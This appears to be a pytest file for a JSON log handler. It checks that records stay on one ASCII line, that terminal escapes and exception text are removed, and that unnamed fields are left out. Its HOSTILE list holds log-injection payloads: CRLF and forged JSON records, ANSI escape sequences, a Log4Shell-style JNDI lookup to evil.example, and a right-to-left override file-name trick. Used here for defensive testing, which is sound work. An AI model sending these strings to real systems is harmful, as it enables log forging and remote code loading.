"""A process's records: one line each, whatever is in them, and nothing that anybody wrote."""

import io
import json
import logging
import warnings
from collections.abc import Iterator
from typing import Any

import pytest

from shared.logs import configure_logs, handler_for

HOSTILE = [
    "a\r\n{}",
    '\n{"time": "now", "level": "critical", "event": "forged", "logger": "order_chat"}',
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\u2028\u2029\x85\x0b\x0c",
    "${jndi:ldap://evil.example/a}",
    '"}, {"',
    "\u202egpj.exe",
    "%s %(event)s {event}",
]


class Terminal(io.StringIO):
    """A stream with a person before it."""

    def isatty(self) -> bool:
        return True


@pytest.fixture
def logger() -> Iterator[logging.Logger]:
    """A logger of its own, that hands nothing up."""
    logger = logging.getLogger("order_chat.test")
    logger.propagate = False
    logger.setLevel(logging.INFO)
    yield logger
    logger.handlers.clear()
    logger.propagate = True


@pytest.fixture
def stream(logger: logging.Logger) -> io.StringIO:
    """Where its records go."""
    stream = io.StringIO()
    logger.addHandler(handler_for(stream))
    return stream


def the_record(stream: io.StringIO) -> dict[str, Any]:
    """What the one line says."""
    (line,) = stream.getvalue().splitlines()
    assert line.isascii()
    assert line.isprintable()
    record = json.loads(line)
    assert isinstance(record, dict)
    return record


def test_a_record_is_an_object_on_a_line(logger: logging.Logger, stream: io.StringIO) -> None:
    """With its time, level and logger, and the fields it was given."""
    logger.warning("a partition is not followed", extra={"partition": 3, "error": "OSError"})

    record = the_record(stream)
    assert record.pop("time").endswith("Z")
    assert record == {
        "level": "warning",
        "event": "a partition is not followed",
        "logger": "order_chat.test",
        "partition": 3,
        "error": "OSError",
    }


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_what_clients_send_stays_on_its_line(
    logger: logging.Logger, stream: io.StringIO, text: str
) -> None:
    """And in its field (attack 28)."""
    logger.warning("order %s", text, extra={"reason": text})

    record = the_record(stream)
    assert (record["event"], record["reason"]) == (f"order {text}", text)
    assert (record["level"], record["logger"]) == ("warning", "order_chat.test")


def test_what_has_no_encoding_stays_on_its_line_too() -> None:
    """A lone surrogate is no Unicode text; given to the handler itself, since not even the test
    runner's reports can hold one."""
    stream = io.StringIO()
    record = logging.LogRecord("order_chat", logging.INFO, "", 0, "order %s", ("\ud800",), None)

    handler_for(stream).emit(record)

    assert the_record(stream)["event"] == "order \ud800"


@pytest.mark.parametrize("text", [text for text in HOSTILE if not text.isprintable()], ids=ascii)
def test_nothing_moves_the_cursor_of_a_terminal(logger: logging.Logger, text: str) -> None:
    """People get one line too; the colours are ours (attack 28)."""
    terminal = Terminal()
    logger.addHandler(handler_for(terminal))

    logger.warning("order %s", text, extra={"reason": text})

    (line,) = terminal.getvalue().splitlines()
    assert text not in line
    assert "\x1b[2J" not in line
    assert "\x07" not in line


def test_fields_nobody_named_are_left_out(logger: logging.Logger, stream: io.StringIO) -> None:
    """A library may hang anything on a record."""
    logger.warning("hm", extra={"websocket": "canary", "headers": {"authorization": "canary"}})

    assert the_record(stream).keys() == {"time", "level", "event", "logger"}


@pytest.mark.parametrize("make_stream", [io.StringIO, Terminal])
def test_an_exception_shows_where_it_was_not_what_it_says(
    logger: logging.Logger, make_stream: type[io.StringIO]
) -> None:
    """Its text may quote a message, and so may its causes'."""
    stream = make_stream()
    logger.addHandler(handler_for(stream))
    try:
        try:
            raise ValueError("canary")
        except ValueError as error:
            raise KeyError("canary") from error
    except KeyError:
        logger.exception("it failed", stack_info=True)

    assert "canary" not in stream.getvalue()
    assert "KeyError from ValueError" in stream.getvalue()
    assert "tests/shared/test_logs.py" in stream.getvalue()
    assert stream.getvalue().count("\n") == 1


def test_what_asyncio_adds_is_left_out() -> None:
    """The repr of a task shows the text of its exception."""
    stream = io.StringIO()
    record = logging.LogRecord(
        "asyncio",
        logging.ERROR,
        __file__,
        1,
        "Task exception was never retrieved\nfuture: <Task exception=ValueError('canary')>",
        None,
        None,
    )

    handler_for(stream).emit(record)

    assert the_record(stream)["event"] == "Task exception was never retrieved"


def test_a_process_sends_everything_to_one_stream() -> None:
    """Whatever library says it, warnings too; who asks about whom is not said at all."""
    stream = io.StringIO()
    root = logging.getLogger()
    before, level = root.handlers, root.level
    try:
        configure_logs(stream)
        logging.getLogger("uvicorn.error").warning("one")
        logging.getLogger("httpx").info("GET http://orders/v1/orders/o1/access?user_id=anna")
        with warnings.catch_warnings():
            warnings.simplefilter("always")
            warnings.warn("two", stacklevel=1)
    finally:
        root.handlers = before
        root.setLevel(level)
        logging.captureWarnings(False)
        for name in ("httpx", "httpcore", "websockets"):
            logging.getLogger(name).setLevel(logging.NOTSET)

    one, two = map(json.loads, stream.getvalue().splitlines())
    assert (one["logger"], one["event"]) == ("uvicorn.error", "one")
    assert (two["logger"], two["event"].endswith("two")) == ("py.warnings", True)
